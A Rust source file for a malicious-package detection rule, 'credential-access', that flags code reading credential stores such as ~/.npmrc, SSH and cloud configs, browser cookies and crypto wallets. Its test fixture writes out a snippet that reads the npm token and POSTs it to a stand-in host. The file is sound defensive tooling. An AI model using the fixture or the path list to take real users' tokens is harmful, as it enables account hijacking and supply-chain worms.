//! `credential-access`: reads of credential stores and token-printing commands.

use crate::declare_rule;
use crate::detect::behavior::{Technique, report_technique};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::PackageFacts;

declare_rule! {
    /// ## What it does
    /// Flags code that reads stored credentials: `~/.npmrc`, `~/.ssh`, `~/.aws/credentials`,
    /// `~/.kube/config`, `~/.docker/config.json`, `.git-credentials`, `~/.config/gh/hosts.yml`,
    /// browser `Login Data`/`Cookies`/extension storage, wallet stores (MetaMask, Exodus,
    /// Electrum), and commands that print tokens (`gh auth token`, `npm config get …:_authToken`).
    /// Paths count when the same file reads files or runs commands; `path.join(os.homedir(),
    /// '.npmrc')` is seen through its folded arguments.
    ///
    /// ## Why is this a risk?
    /// Stolen npm and GitHub tokens are how worms spread and how accounts get hijacked; cloud and
    /// SSH credentials open the developer's infrastructure. Ordinary libraries never read another
    /// tool's credential store.
    ///
    /// ## Example
    /// ```js
    /// const p = require('path').join(require('os').homedir(), '.npmrc');
    /// const token = require('fs').readFileSync(p, 'utf8');
    /// ```
    ///
    /// ## False positives
    /// Registry clients read `.npmrc` on purpose (registry-auth-token): reading alone is monitored,
    /// and only install-time reads or reads next to network code warn. A dotenv loader reading
    /// the project's `.env` is not a credential store (monitored at install time at most).
    ///
    /// ## References
    /// - GuardDog `threat-filesystem-read`; MITRE ATT&CK T1552.001, T1555
    CredentialAccess, id = "credential-access", category = Malicious, severity = High, action = Warn,
}

impl Rule for CredentialAccess {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        report_technique(&Self::META, Technique::CredentialAccess, pkg, cx);
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn credential_access() {
        Tester::new(super::CredentialAccess)
            .pass_package([("index.js", "require('dotenv');\nconst fs = require('fs');\nfs.readFileSync('config.json');")])
            .fail_package([("index.js", "const fs = require('fs'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://c.example/', {method: 'POST', body: t});")])
            .test_and_snapshot();
    }
}
